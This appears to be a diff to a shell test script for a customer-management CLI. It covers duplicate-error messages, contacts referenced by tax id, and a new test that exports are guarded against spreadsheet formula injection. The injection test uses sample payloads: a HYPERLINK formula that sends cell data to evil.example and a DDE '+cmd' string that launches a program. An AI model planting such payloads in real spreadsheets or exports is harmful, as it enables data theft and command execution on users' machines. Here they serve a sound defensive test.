@@ -99,9 +99,9 @@ printf 'Twin A,,021 1234 5678\nTwin B,,(021)12345678\n' >>"$T/dup.csv"
 import_fails alice customer "$T/dup.csv"
 eq "$(error_lines "$T/dup.csv")" "3 4 6 " "duplicates of existing customers and within the file"
 grep -q "dup.csv:6: phone '(021)12345678' is also on line 5" "$T/err" || fail "phone twins: $(cat "$T/err")"
-grep -q "dup.csv:3: tax_id '91310000MA1AC0001Y' belongs to customer $acme" "$T/err" ||
+grep -q "dup.csv:3: duplicate: tax_id '91310000MA1AC0001Y' belongs to customer $acme" "$T/err" ||
 	fail "existing tax id: $(cat "$T/err")"
-grep -q "dup.csv:4: phone '13800138000' belongs to customer $shanghai" "$T/err" ||
+grep -q "dup.csv:4: duplicate: phone '13800138000' belongs to customer $shanghai" "$T/err" ||
 	fail "existing phone: $(cat "$T/err")"
 
 # ---- whole-file errors: unknown, system, duplicate and missing columns,
@@ -148,6 +148,22 @@ import_fails alice contact "$T/orphan.csv"
 grep -q "orphan.csv:2: no customer '01234567-89ab-7cde-8f01-23456789abcd' in this replica" "$T/err" ||
 	fail "unknown customer: $(cat "$T/err")"
 
+# A contact's customer may be named by its tax id, tax_id:XXXX (compared
+# normalised); a tax id no customer here holds, or that is no tax id, is a
+# row error like any bad cell.
+printf 'customer,name\ntax_id:91310000MA1AC0001Y,By Tax\n"tax_id: 9131-0000-ma1a-c0001y",By Tax Loosely\n' \
+	>"$T/taxref.csv"
+eq "$(r alice import contacts "$T/taxref.csv")" "imported 2 contacts" "contacts by tax id"
+eq "$(r alice contact list --customer "$acme" --json | jq -r '[.[].name] | sort | join("|")')" \
+	"By Tax|By Tax Loosely|Wang, Li" "contacts by tax id belong to the customer"
+printf 'customer,name\ntax_id:91310000MA1AC0009P,Nobody\ntax_id:abc,Bad\ntax_id:,Empty\nnot-an-id,Bad ref\nOK,\n' \
+	>"$T/taxbad.csv"
+import_fails alice contact "$T/taxbad.csv"
+eq "$(error_lines "$T/taxbad.csv")" "2 3 4 5 6 " "bad customer references"
+grep -q "taxbad.csv:2: no customer with tax_id '91310000MA1AC0009P' in this replica" "$T/err" ||
+	fail "unknown tax id: $(cat "$T/err")"
+grep -q "taxbad.csv:3: .*统一社会信用代码" "$T/err" || fail "a tax id that is no tax id: $(cat "$T/err")"
+
 # ---- export: CSV header, quoting; --json equals customer list --json.
 r alice export customers >"$T/export.csv"
 eq "$(head -n 1 "$T/export.csv")" \
@@ -170,6 +186,42 @@ eq "$(r bob customer list --json | jq -r '[.[].owner] | unique | join(",")')" "b
 r bob sync >/dev/null
 eq "$(r bob rejected --json | jq '[.[] | select(.reason == "duplicate")] | length')" "3" \
 	"the server refused the duplicates"
+
+# ---- spreadsheet formulas (CSV injection): a cell that starts with = + -
+# @ or a tab is written behind a single quote, so a spreadsheet shows it as
+# text instead of running it; import takes the one quote off again, so an
+# export reads back as it was (phones start with +).
+users carol:rep:east.sh @dave:rep:east.sh
+sync_all carol @dave
+formula='=HYPERLINK("http://evil.example/?d="&B3&C3,"Open")'
+r carol customer add --name "$formula" --phone "+86 21 5555 0009" >/dev/null
+r carol customer add --name "@SUM(1+1)" --address "+cmd|' /C calc'!A0" >/dev/null
+r carol customer add --name "-2+3" --address $'\tindented' >/dev/null
+r carol customer add --name "'=quoted already" --address "'plain quote" >/dev/null
+r carol export customers >"$T/formula.csv"
+grep -qF '"'"'"'=HYPERLINK(""http://evil.example/?d=""&B3&C3,""Open"")"' "$T/formula.csv" ||
+	fail "=HYPERLINK not guarded: $(cat "$T/formula.csv")"
+grep -qF ",'@SUM(1+1)," "$T/formula.csv" || fail "@SUM not guarded: $(cat "$T/formula.csv")"
+grep -qF ",'+cmd|' /C calc'!A0," "$T/formula.csv" || fail "+cmd not guarded: $(cat "$T/formula.csv")"
+grep -qF ",'-2+3," "$T/formula.csv" || fail "-2+3 not guarded: $(cat "$T/formula.csv")"
+grep -qF $',"\'\tindented",' "$T/formula.csv" || fail "a leading tab not guarded: $(cat "$T/formula.csv")"
+grep -qF ",'+86 21 5555 0009," "$T/formula.csv" || fail "a phone not guarded: $(cat "$T/formula.csv")"
+grep -qF ",''=quoted already," "$T/formula.csv" || fail "a quote before = not doubled: $(cat "$T/formula.csv")"
+grep -qF ",'plain quote," "$T/formula.csv" || fail "a quote before text changed: $(cat "$T/formula.csv")"
+# No cell of the file starts with what a spreadsheet runs.
+if tr -d '"' <"$T/formula.csv" | tr ',' '\n' | grep -q $'^[=+@\t-]'; then
+	fail "a cell starts with a formula character: $(cat "$T/formula.csv")"
+fi
+# Read back as it was.
+eq "$(r @dave import customers "$T/formula.csv")" "imported 4 customers" "import of the guarded file"
+eq "$(r @dave customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
+	"$(r carol customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
+	"the guarded export imports unchanged"
+# Reports too: a login may start with @.
+c=$(r @dave customer list --json | jq -r '.[0].id')
+r @dave opportunity add --customer "$c" --title Deal --amount 100 --stage proposal >/dev/null
+r @dave report pipeline --csv | grep -qxF "rep,'@dave,1,10000" ||
+	fail "report rep not guarded: $(r @dave report pipeline --csv)"
 
 # Usage: --help on stdout with status 0; bad command lines exit 2.
 for h in "import --help" "export --help" "import customers --help"; do
